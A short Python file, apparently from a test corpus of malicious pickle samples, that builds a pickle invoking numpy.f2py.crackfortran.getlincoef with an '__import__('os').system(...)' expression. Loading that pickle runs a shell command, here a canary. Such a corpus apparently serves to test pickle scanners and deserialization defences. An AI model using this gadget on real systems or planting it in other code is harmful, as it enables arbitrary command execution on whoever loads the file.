"""Numpy's Fortran reader evaluates an expression."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call, shell


def build(canary: str) -> bytes:
    expression = f"__import__('os').system({shell(canary)!r})"
    return pickled_call("numpy.f2py.crackfortran", "getlincoef", expression, {})
